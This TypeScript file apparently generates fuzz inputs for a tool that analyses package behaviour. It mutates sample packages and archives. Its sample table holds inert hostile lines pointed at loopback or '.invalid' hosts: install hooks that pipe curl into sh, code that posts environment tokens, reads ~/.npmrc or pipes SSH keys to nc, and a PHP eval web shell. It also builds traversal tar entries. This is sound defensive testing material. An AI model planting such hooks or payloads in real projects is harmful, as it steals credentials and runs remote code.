/**
 * Inputs of `fuzz-behaviour.ts`: packages made of our own inert samples and of the incidents' reconstructions, mutated. Input `number` of a seed
 * is the same on every machine, whatever came before it, so that one that fails can be made again alone.
 */
import { gzipSync, zstdCompressSync } from "node:zlib";
import { randomFrom } from "../conformance/attacks/host.ts";
import { incidents } from "../conformance/incidents/replay.ts";
import type { ArchiveKind } from "../src/artifacts/index.ts";
import type { PackageEntry } from "../src/checks/behaviour/analysis/files-package.ts";
import { type TarEntry, tar } from "../test/registry/tar.ts";
import { type ZipEntry, zip } from "../test/registry/zip.ts";

export type FuzzInput =
  | { readonly kind: "package"; readonly before: readonly PackageEntry[]; readonly after: readonly PackageEntry[] }
  | { readonly kind: "archive"; readonly archive: ArchiveKind; readonly before: Buffer; readonly after: Buffer };

/** One sample of every kind of file that has an analysis of its own, or says what runs by itself. */
const samples: Readonly<Record<string, string>> = {
  "package.json": `{"name":"kit","version":"1.0.1","main":"index.js","bin":{"kit":"bin/kit.js","git":"bin/kit.js"},"scripts":{"postinstall":"node scripts/setup.js && curl -s http://127.0.0.1:9/x | sh","prepare":"husky"},"dependencies":{"a":"^1.0.0","b":"git+ssh://git@host.example/b.git#v1","c":"npm:d@1"},"optionalDependencies":{"e":"https://127.0.0.1:9/e.tgz"},"peerDependencies":{"f":"*"},"gypfile":true}`,
  "index.js": `#!/usr/bin/env node\n"use strict";\nconst { execSync: run } = require("child_" + "process"), os = require("os");\nconst at = ["h", "t", "t", "p"].join("") + String.fromCharCode(115);\nclass Kit extends Map { #p = 1; static { this.q = /[/\\]]+(?<n>a)/gu.exec("x")?.groups; } async *go(...a) { for await (const b of a) yield* b ?? (await 0); } }\nconst hidden = Buffer.from("cmVxdWlyZQ==", "base64").toString(); if (false) eval(atob("dm9pZCAw"));\nfor (const k in process.env) if (/TOKEN/.test(k)) fetch(\`https://a.invalid/\${process.env[k]}\`, { method: "POST", body: JSON.stringify({ ...process.env }) });\nmodule.exports = new Function("return this")()[hidden]; label: while (1) { break label; }\n`,
  "lib/mod.mjs": `import fs, * as all from "node:fs"; import data from "./data.json" with { type: "json" };\nexport default async () => { const { readFile: r = all.readFile } = fs; return (await import(["node:ht", "tps"].join(""))).request(await r(\`\${process.env.HOME}/.npmrc\`)); };\nexport { a as b } from "./a.js"; export * from "b"; globalThis.fetch = new Proxy(fetch, {});\n`,
  "src/type.ts": `import type { A } from "./a.ts"; namespace N { export enum E { A = 1 << 2, B = "x".length } }\nabstract class C<T extends A = A> implements I<T> { constructor(private readonly x: T, public y?: <U>(a: U) => a is U) { super(); } declare z: number; @dec() get v(): T | undefined { return this.x as unknown as T; } }\nexport const f = <T,>(a: T): asserts a is NonNullable<T> => { fetch("https://a.invalid" satisfies string); };\ntype M<T> = { readonly [K in keyof T as \`on\${string & K}\`]?: T[K] extends infer U ? U : never };\n`,
  "src/view.jsx": `import React from "react"; export const V = ({ a, ...b }) => <><A.B c:d={e} {...b}>{/* x */}{a ? <i>&amp; text {"}"}</i> : null}</A.B><script dangerouslySetInnerHTML={{ __html: \`\${localStorage.getItem("t")}\` }} /></>;\n`,
  "kit/__init__.py": `import os, sys, base64, subprocess as sp\nfrom urllib.request import urlopen as u\nexec(base64.b64decode(b"cGFzcw=="))  # x\ndef f(a: int = 1, *b, **c) -> "x":\n    """doc"""\n    return [sp.run(["sh", "-c", f"echo {os.environ['HOME']!r}"]) for _ in range(3) if (n := len(b)) > 1]\n__import__("o" + "s").system("true"); getattr(os, "sys" "tem")(r'''x''')\n`,
  "setup.py": `from setuptools import setup\nfrom setuptools.command.install import install\nclass I(install):\n    def run(self):\n        import urllib.request as r; r.urlopen("https://a.invalid/" + __import__("socket").gethostname())\nsetup(name="kit", cmdclass={"install": I})\n`,
  "kit_init.pth": `import os; exec("pass") if os.environ.get("KIT") else None\nimport sys, base64\n/usr/lib/kit\n`,
  "pyproject.toml": `[build-system]\nrequires = ["hatchling"]\nbuild-backend = "backend"\nbackend-path = ["."]\n[project]\nname = "kit"\nversion = "1"\n`,
  "kit-1.0.dist-info/METADATA": `Metadata-Version: 2.1\nName: kit\nVersion: 1.0\nRequires-Dist: requests (>=2) ; extra == 'x'\nRequires-Dist: urllib3\n\nkit\n`,
  "lib/kit.rb": `require 'net/http'\nmodule Kit\n  def self.go(a) = Net::HTTP.get(URI("https://a.invalid/#{ENV.to_h}"))\n  %w[a b].each { |x| system("echo #{x}"); eval(%q{1}) } unless ENV['CI']\n  X = <<~EOS\n    #{\`id\`}\n  EOS\nend\n`,
  "ext/extconf.rb": `require "mkmf"\nsystem("curl -s http://127.0.0.1:9/x | sh")\ncreate_makefile("kit")\n`,
  "kit.gemspec": `Gem::Specification.new do |s|\n  s.name = "kit"\n  s.extensions = ["ext/extconf.rb"]\n  s.files = \`git ls-files\`.split\nend\n`,
  "build.rs": `use std::{env, process::Command};\nfn main() { let t = env::var("CARGO_REGISTRY_TOKEN").unwrap_or_default(); Command::new("sh").arg("-c").arg(format!(r#"echo "{}" {t}"#, 1)).status().unwrap(); /* a /* b */ */ std::net::TcpStream::connect("127.0.0.1:9").ok(); }\n`,
  "src/lib.rs": `#![no_std]\nextern crate std; pub fn f<'a>(x: &'a str) -> char { unsafe { std::env::vars().count(); } 'x' }\ninclude_bytes!("a.bin");\n`,
  "Cargo.toml": `[package]\nname = "kit"\nversion = "1.0.0"\nbuild = "build.rs"\n[lib]\nproc-macro = true\n[dependencies]\na = { git = "https://host.example/a" }\nb = "1"\n`,
  "binding.gyp": `{ "targets": [{ "target_name": "a", "sources": ["<!(node index.js > /dev/null && echo a.c)", "<!@(sh x.sh)"], "actions": [{ "action": ["python", "x.py"] }] }] } # c\n`,
  "scripts/setup.sh": `#!/bin/bash\nset -e; X=$(curl -fsSL "http://127.0.0.1:9/$(hostname)" | base64 -d)\nif [ -f ~/.ssh/id_rsa ]; then cat <<'E' | nc a.invalid 9\n$X\nE\nfi\neval "$(echo \\"\${X//a/b}\\" | rev)" & \`id\` >/dev/null 2>&1; for i in {1..3}; do echo "$((i+1))"; done; case $X in a) crontab -;; esac\n`,
  "scripts/setup.js": `require("https").get("https://a.invalid/p", (r) => { let b = ""; r.on("data", (d) => (b += d)); r.on("end", () => require("vm").runInThisContext(b)); });\n`,
  Makefile: `all: a.o\n\t@curl -s http://127.0.0.1:9/x | sh\nX := $(shell cat ~/.npmrc)\n%.o: %.c\n\t$(CC) -c $<\n`,
  "configure.ac": `AC_INIT([kit],[1])\nAC_CONFIG_COMMANDS([x],[eval \`grep -a x tests/a.bin | tr "a" "b" | sh\`])\nAC_OUTPUT\n`,
  "CMakeLists.txt": `cmake_minimum_required(VERSION 3.1)\nexecute_process(COMMAND sh -c "curl http://127.0.0.1:9 | sh")\nfile(DOWNLOAD https://a.invalid/a a)\nadd_custom_command(OUTPUT x COMMAND python x.py)\n`,
  ".github/workflows/ci.yml": `on: [push, pull_request_target]\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - run: |\n          curl -s https://a.invalid/x | sh\n          npm publish\n        env: { T: "\${{ secrets.NPM_TOKEN }}" }\n`,
  "action.yml": `name: a\nruns:\n  using: composite\n  steps:\n    - run: echo \${{ github.token }}\n      shell: bash\n    - uses: ./.github/a\n`,
  ".vscode/tasks.json": `{"version":"2.0.0","tasks":[{"label":"a","type":"shell","command":"node x.js","runOptions":{"runOn":"folderOpen"}}]} // c\n`,
  ".claude/settings.json": `{"hooks":{"SessionStart":[{"hooks":[{"type":"command","command":"node x.js"}]}]}}`,
  "win.ps1": `iex (New-Object Net.WebClient).DownloadString("http://127.0.0.1:9/x"); Start-Process cmd.exe -ArgumentList "/c $env:USERNAME"\n`,
  "page.html": `<!doctype html><script src="https://a.invalid/x.js"></script><script>eval(document.cookie)</script><img onerror="fetch('//a.invalid')">\n`,
  "data.json": `{"a":[1,2,{"b":null}],"__proto__":{"c":1}}`,
  "index.php": `<?php @eval(base64_decode($_POST['a'])); system("id"); ?>\n`,
  "test/a.bin": `\u007fELF\u0002\u0001\u0001\u0000${"\u00ffx".repeat(300)}`,
};

const nasty: readonly string[] = [
  "(",
  "[",
  "{",
  "`${",
  "<a>",
  "</",
  "/*",
  "//",
  "\\",
  "\\u{",
  "\\x",
  '"',
  "'",
  '"""',
  "'''",
  "`",
  "=>",
  "...",
  "?.",
  "??",
  "#",
  "@",
  "async ",
  "await ",
  "yield ",
  "class ",
  "function*",
  "import(",
  "export default ",
  "new ",
  "in ",
  "of ",
  "0x",
  "1_0n",
  "/[",
  "/(?<a>",
  "$(",
  "${",
  "<<EOF\n",
  "|",
  "&&",
  "%q(",
  'r#"',
  "b'",
  'f"{',
  "!",
  "-",
  "+",
  "++",
  ",",
  ";",
  ":",
  "\n",
  "\r\n",
  "\r",
  "\u2028",
  "\ufeff",
  "\u0000",
  "\u202e",
  "\u{e0101}",
  "\ud800",
  "__proto__",
  "constructor",
  "prototype",
  "hasOwnProperty",
  "toString",
  "require",
  "eval",
  "process.env",
  "fetch",
  "https://",
  "String.fromCharCode(",
  "Buffer.from(",
  ".join('')",
  ".map(",
  "atob(",
  "if(0)",
  "else ",
  "for(;;)",
  "a=a+a;",
  "var a=b,b=a;",
  "function a(){return a()}",
  "a?b:",
  "typeof ",
  "<T,>",
  "enum E{",
  "namespace N{",
  "interface I{",
  "---\n",
  "- ",
  "&a ",
  "*a",
  "<<: ",
  "!!x ",
  "$&",
  "%s",
  "1e999",
  " ".repeat(400),
  "A".repeat(300),
];
/** Things within each other, so deep that a reader that goes down by calls would fall. */
const deep: readonly (readonly [open: string, middle: string, close: string])[] = [
  ["(", "0", ")"],
  ["[", "", "]"],
  ['{"a":', "1", "}"],
  ["a(", "", ")"],
  ["`${", "", "}`"],
  ["!", "a", ""],
  ["a=>", "a", ""],
  ["a?b:", "c", ""],
  ["if(a)", ";", ""],
  ["<a>", "", "</a>"],
  ["$(", "id", ")"],
  ["function a(){", "", "}"],
  ["a.b", "", ""],
  ["a+", "a", ""],
  ["class{a=", "1", "}"],
  ["- ", "a", ""],
  ["/*", "", "*/"],
  ["A<", "B", ">"],
  ["${a:-", "", "}"],
  ["\\(", "", "\\)"],
  ["{{", "a", "}}"],
  ["f'{", "a", "}'"],
  ["case a in b) ", "c", ";; esac"],
  ["begin ", "", " end"],
  ["new ", "a", ""],
  ["await ", "a", ""],
  ["a[", "0", "]"],
  ["a,", "a", ""],
  ["x=", "x", ""],
  ["'a'+", "'b'", ""],
];
const MOST_DEPTH = 5_000;
/** One in so many inputs is deep: they cost a hundred times as much as others. */
const DEEP_ONE_IN = 100;

const incidentTexts = (): readonly (readonly [path: string, text: string])[] =>
  incidents().flatMap(({ change: { add = {}, append = {} } }) =>
    Object.entries(add).concat(Object.entries(append).map(([path, text]): [string, string] => [`more/${path}`, text])),
  );

const base: readonly (readonly [path: string, bytes: Buffer])[] = [...Object.entries(samples), ...incidentTexts()]
  .map(([path, text]): [string, Buffer] => [path.replaceAll("%MODULE%", "kit"), Buffer.from(text)])
  .filter(([, bytes]) => bytes.length < 12_000);

type Random = (below: number) => number;
const pick = <T>(random: Random, list: readonly T[]): T => list[random(list.length)] as T;

const spliced = (bytes: Buffer, at: number, gone: number, put: Uint8Array): Buffer =>
  Buffer.concat([bytes.subarray(0, at), put, bytes.subarray(Math.min(bytes.length, at + gone))]);

/** Words, numbers, blanks and single marks: what a tokenizer of any of the languages would roughly see. */
const tokensOf = (text: string): string[] => text.match(/[\w$]+|\s+|[^\w\s]/g) ?? [];

function mutated(random: Random, from: Buffer): Buffer {
  if (random(DEEP_ONE_IN) === 0) {
    const [open, middle, close] = pick(random, deep);
    const times = 1 + random(MOST_DEPTH);
    const nested = open.repeat(times) + middle + (random(3) === 0 ? "" : close.repeat(times));
    return spliced(from, random(from.length + 1), 0, Buffer.from(nested));
  }
  let out = from;
  for (let rounds = random(3) === 0 ? 1 + random(8) : 1; rounds > 0; rounds--) {
    const at = random(out.length + 1);
    const length = 1 + random(random(8) === 0 ? 400 : 12);
    switch (random(11)) {
      case 0: {
        const flipped = Buffer.from(out);
        for (let times = 1 + random(6); times > 0 && flipped.length > 0; times--) {
          const place = random(flipped.length);
          flipped[place] = (flipped[place] ?? 0) ^ (1 << random(8));
        }
        out = flipped;
        break;
      }
      case 1:
        out = out.subarray(0, at);
        break;
      case 2:
        out = spliced(out, at, length, Buffer.alloc(0));
        break;
      case 3:
        out = spliced(out, at, 0, Buffer.from(pick(random, nasty)));
        break;
      case 4:
        out = spliced(out, at, 0, Buffer.from(pick(random, nasty).repeat(1 + random(60))));
        break;
      case 5:
        // No valid UTF-8: a lone continuation, a cut sequence, an overlong one, a surrogate.
        out = spliced(
          out,
          at,
          random(2),
          pick(random, [
            Buffer.of(0x80),
            Buffer.of(0xe2, 0x82),
            Buffer.of(0xc0, 0xaf),
            Buffer.of(0xed, 0xa0, 0x80),
            Buffer.of(0xff, 0xfe),
            Buffer.of(0xf4, 0x90, 0x80, 0x80),
          ]),
        );
        break;
      case 6: {
        const other = pick(random, base)[1];
        const start = random(other.length + 1);
        out = spliced(out, at, random(2) * length, other.subarray(start, start + length * 10));
        break;
      }
      case 7:
      case 8: {
        const tokens = tokensOf(out.toString("utf8"));
        const others = tokensOf(pick(random, base)[1].toString("utf8"));
        const start = random(others.length + 1);
        tokens.splice(random(tokens.length + 1), random(6), ...others.slice(start, start + 1 + random(20)));
        out = Buffer.from(tokens.join(""));
        break;
      }
      case 9: {
        const tokens = tokensOf(out.toString("utf8"));
        for (let times = 1 + random(5); times > 0 && tokens.length > 0; times--) {
          const [one, two] = [random(tokens.length), random(tokens.length)];
          [tokens[one], tokens[two]] = [tokens[two] ?? "", tokens[one] ?? ""];
        }
        out = Buffer.from(tokens.join(""));
        break;
      }
      default:
        out = spliced(out, at, 0, out.subarray(at, at + length * 20));
    }
  }
  return out;
}

const packers: readonly (readonly [ArchiveKind, (files: ReadonlyMap<string, Buffer>, random: Random) => Buffer])[] = [
  ["tgz", (files, random) => gzipSync(tarOf(files, random, "package/"), { level: 1 })],
  ["tar", (files, random) => tarOf(files, random, "package/")],
  ["tar.zst", (files, random) => zstdCompressSync(tarOf(files, random, "kit/"))],
  ["zip", (files, random) => zip([...files].map(([path, content]) => zipMember(path, content, random)))],
  [
    "gem",
    (files, random) =>
      tar([
        { path: "metadata.gz", content: gzipSync("name: kit\n") },
        { path: "data.tar.gz", content: gzipSync(tarOf(files, random, ""), { level: 1 }) },
      ]),
  ],
  [
    "deb",
    (files, random) =>
      ar([
        ["debian-binary", Buffer.from("2.0\n")],
        [
          "control.tar.gz",
          gzipSync(
            tarOf(
              new Map([
                ["./control", Buffer.from("Package: kit\n")],
                ["./postinst", Buffer.from(samples["scripts/setup.sh"] ?? "")],
              ]),
              random,
              "",
            ),
          ),
        ],
        ["data.tar.zst", zstdCompressSync(tarOf(files, random, "./"))],
      ]),
  ],
];

const oddly = (random: Random, path: string): string =>
  random(40) > 0
    ? path
    : pick(random, [
        `../${path}`,
        `/${path}`,
        `${path}\u0000x`,
        `a/../${path}`,
        path.repeat(50),
        "",
        ".",
        `${path}/`,
        path.toUpperCase(),
        `\ud800${path}`,
        "x/".repeat(300) + path,
      ]);

/** One in so many members is not as an honest writer would have it. */
const ODD_ONE_IN = 60;

const zipMember = (path: string, content: Buffer, random: Random): ZipEntry => ({
  path: oddly(random, path),
  content,
  method: random(8) === 0 ? random(16) : random(2) * 8,
  ...(random(ODD_ONE_IN) === 0 ? { size: random(2 ** 31) } : {}),
  overlaps: random(ODD_ONE_IN) === 0,
  hidden: random(ODD_ONE_IN) === 0,
});

const types = ["1", "2", "3", "5", "7", "L", "S", "g", "x", "\0"];
const paxKeys = ["path", "size", "linkpath", "GNU.sparse.size", "x"];

const tarMember = (path: string, content: Buffer, random: Random): TarEntry => ({
  path: oddly(random, path),
  content,
  ...(random(ODD_ONE_IN) === 0 ? { type: pick(random, types), link: pick(random, ["../x", "/etc/passwd", path]) } : {}),
  ...(random(ODD_ONE_IN) === 0 ? { size: random(2 ** 31), base256: random(2) === 0 } : {}),
  ...(random(ODD_ONE_IN) === 0 ? { badChecksum: true } : {}),
  ...(random(ODD_ONE_IN) === 0 ? { pax: { [pick(random, paxKeys)]: pick(random, ["../x", "-1", "999999999999", "a\u0000b", path]) } } : {}),
});

const tarOf = (files: ReadonlyMap<string, Buffer>, random: Random, prefix: string): Buffer =>
  tar([...files].map(([path, content]) => tarMember(prefix + path, content, random)));

const ar = (members: readonly (readonly [string, Buffer])[]): Buffer =>
  Buffer.concat([
    Buffer.from("!<arch>\n"),
    ...members.flatMap(([name, data]) => [
      Buffer.from(
        `${name.padEnd(16)}${"0".padEnd(12)}${"0".padEnd(6)}${"0".padEnd(6)}${"100644".padEnd(8)}${String(data.length).padEnd(10)}\`\n`,
      ),
      data,
      Buffer.alloc(data.length % 2, 10),
    ]),
  ]);

const entriesOf = (files: ReadonlyMap<string, Buffer>): readonly PackageEntry[] =>
  [...files].map(([path, bytes]) => ({ path, executable: false, bytes }));

/** Share of inputs that are archives, in percent. */
const ARCHIVES = 25;

export function fuzzInput(seed: string, number: number): FuzzInput {
  const random = randomFrom(`${seed} ${number}`);
  const files = new Map<string, Buffer>([["package.json", Buffer.from(samples["package.json"] ?? "")]]);
  for (let more = 1 + random(4); more > 0; more--) files.set(...pick(random, base));
  const after = new Map(files);
  const paths = [...after.keys()];
  for (let times = 1 + random(3); times > 0; times--) {
    const path = pick(random, paths);
    // Sometimes under another's name: the language is told by it.
    after.set(random(12) === 0 ? pick(random, base)[0] : path, mutated(random, after.get(path) ?? Buffer.alloc(0)));
  }
  if (random(100) >= ARCHIVES) return { kind: "package", before: entriesOf(files), after: entriesOf(after) };
  const [archive, pack] = pick(random, packers);
  const honest = pack(files, () => 1);
  const packed = random(2) === 0 ? mutated(random, pack(after, random)) : pack(after, random);
  return { kind: "archive", archive, before: honest, after: packed };
}

export const seedFiles: number = base.length;
